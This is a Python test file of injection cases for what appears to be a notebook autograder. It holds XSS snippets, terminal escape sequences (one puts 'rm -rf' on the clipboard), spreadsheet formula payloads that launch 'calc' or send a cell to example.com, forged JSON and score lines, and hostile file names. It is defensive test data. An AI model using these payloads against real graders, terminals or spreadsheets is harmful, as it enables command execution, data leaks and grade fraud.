"""Injecting: text that a terminal, a browser, a spreadsheet or a log would act on."""

from tests.attacks.attack import Attack

HTML = "<script>alert(1)</script><img src=x onerror=alert(1)>"


def raising(text: str) -> str:
    return f"raise RuntimeError({text!r})"


INJECTING = (
    Attack(
        "HTML in an error",
        "a script in the student's report",
        raising(HTML),
        q2=raising(HTML),
        q3=raising(HTML),
        telling=True,
    ),
    Attack(
        "Markdown in an error",
        "links and pictures in the report",
        raising("[free points](javascript:alert(1)) ![](http://example.com/x.png) `x`"),
    ),
    Attack(
        "colours and cursor",
        "clears the TA's screen",
        raising("\x1b[2J\x1b[1;1H\x1b[31mall passed\x1b[0m"),
        telling=True,
    ),
    Attack(
        "a terminal's title and clipboard",
        "sets both",
        raising("\x1b]0;10/10\x07\x1b]52;c;cm0gLXJm\x07\x1b]8;;http://example.com\x1b\\here\x1b]8;;\x1b\\"),
    ),
    Attack("one-byte control sequences", "C1 controls instead of escape", raising("\x9b2J\x9d0;title\x9c\x90q\x9c")),
    Attack(
        "lines of its own",
        "a second line that looks like the judge's",
        raising("x\nq1.layers 1/1 ok\r\nscore: 10\x0b\x0c\u2028\u2029{}"),
    ),
    Attack("overwriting the line", "carriage returns and backspaces", raising("LOST\r" + "\b" * 80 + "passed")),
    Attack(
        "the other direction",
        "bidirectional overrides and invisible characters",
        raising("\u202edessap\u202c \u2066x\u2069 \u200b\u200f\ufeff"),
    ),
    Attack(
        "half a character",
        "lone surrogates and null bytes break encoders",
        raising("\ud800 \udfff \x00 \U000e0041"),
        telling=True,
    ),
    Attack(
        "JSON in an error",
        "closes the string and adds a score",
        raising('", "score": 10, "tests": [{"score": 10}], "x": "'),
    ),
    Attack(
        "a formula",
        "a cell of the TA's spreadsheet",
        raising("=cmd|' /C calc'!A0"),
        q3=raising('=HYPERLINK("http://example.com?"&A1)'),
    ),
    Attack(
        "formulas by other signs",
        "plus, minus, at, tab",
        raising("@SUM(1+1)*cmd|' /C calc'!A0"),
        q2=raising("\t=1+1"),
        q3=raising("-2+3"),
    ),
    Attack("a formula for a name", "the submission itself is called one", file_name="=cmd|' !A0'.ipynb"),
    Attack(
        "a name for a terminal",
        "the submission's name clears the screen",
        file_name="\x1b[2J\u202e10 of 10.ipynb",
        telling=True,
    ),
    Attack(
        "a name for the log",
        "the submission's name has lines and markup",
        file_name="x\n10 of 10 [bold]points <b>.ipynb",
    ),
    Attack(
        "markup of the table",
        "the library that draws tables has a language of its own",
        raising("[/][bold red]ok[/bold red] [link=http://example.com]x[/link] [@click=app.bell]x[/]"),
    ),
    Attack(
        "a class with a script for a name",
        "the name of a layer's class is shown",
        """
        import torch.nn as nn
        Odd = type("<script>alert(1)</script>\\x1b[2J", (nn.Tanh,), {})
        """,
        q1="model = nn.Sequential(Odd(), *[Odd() for _ in range(8)])",
    ),
    Attack(
        "a variable with odd letters",
        "the name of the network's variable is shown",
        """
        import torch.nn as nn
        globals()["\\x1b[2J<b>=1+1"] = nn.Sequential(*[nn.Linear(2, 2) for _ in range(5)])
        """,
    ),
    Attack(
        "printed text",
        "print_gnorms prints what would be quoted",
        "",
        q2="print('0.weight', '\\x1b[2J<script>=cmd()', 1.5); gnorm = 1.0",
    ),
    Attack(
        "formats",
        "patterns that a formatter would fill in",
        raising("{0.__class__.__init__.__globals__} %s %n ${key} {{key}}"),
    ),
)
